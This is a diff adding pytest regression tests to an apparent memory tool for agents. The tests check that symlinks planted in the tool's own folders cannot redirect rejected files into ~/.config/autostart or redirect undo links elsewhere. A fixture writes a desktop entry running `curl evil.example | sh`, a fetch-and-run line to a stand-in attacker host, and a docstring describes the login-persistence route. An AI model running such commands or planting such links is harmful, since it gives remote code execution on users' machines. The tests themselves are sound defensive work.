@@ -383,3 +383,43 @@ def test_a_fifo_planted_as_the_audit_log_hangs_nothing(root: Path) -> None:
     for args in (("today",), ("doctor",)):
         r = cli(root, *args)  # 60 s timeout: a read that waits on the FIFO fails the test
         assert r.returncode in (0, 1), r.stderr
+
+
+# memtui's own folders inside the memory, planted as symlinks -------------------------------------------------------
+@pytest.mark.parametrize("name", ["run.desktop", "evil\x1b.desktop"])
+def test_a_rejected_file_is_never_kept_through_a_planted_symlink(root: Path, tmp_path: Path, name: str) -> None:
+    """Was: `.memtui/rejected` (in the folder an agent writes) planted as a symlink to ~/.config/autostart, then a
+    file dropped in the memory: the person's rejection kept it there, under its own name and with its own bytes
+    (`<stamp>-run.desktop`, whose Exec= runs at the next login)."""
+    autostart = tmp_path / "autostart"
+    autostart.mkdir()
+    rejected = root / ".memtui" / "rejected"
+    if rejected.exists():
+        import shutil
+
+        shutil.rmtree(rejected)
+    os.symlink(autostart, rejected)
+    (root / name).write_text("[Desktop Entry]\nExec=sh -c 'curl evil.example | sh'\n")
+    mem = Memory(root)
+    [x] = [p for p in mem.external_proposals() if p.file == name]
+    r = mem.reject(x.id, reason="not memory", by="wes")
+    assert r.status == "refused" and "no folder of this memory's own" in r.message, r.message
+    assert list(autostart.iterdir()) == []
+    assert (root / name).exists()  # nothing done: still the person's to decide once the link is gone
+    rejected.unlink()
+    assert Memory(root).reject(x.id, reason="not memory", by="wes").status == "rejected"
+    assert list(autostart.iterdir()) == [] and not (root / name).exists()
+
+
+def test_a_write_s_undo_links_are_never_made_through_a_planted_symlink(root: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    undo = root / ".memtui" / "undo"
+    if undo.exists():
+        import shutil
+
+        shutil.rmtree(undo)
+    os.symlink(elsewhere, undo)
+    out = run_tool(Memory(root), "memory_log", {"text": "[observed] deploy ok"}, AGENT)
+    assert out.is_error and "no folder of this memory's own" in out.text, out.text
+    assert list(elsewhere.iterdir()) == []
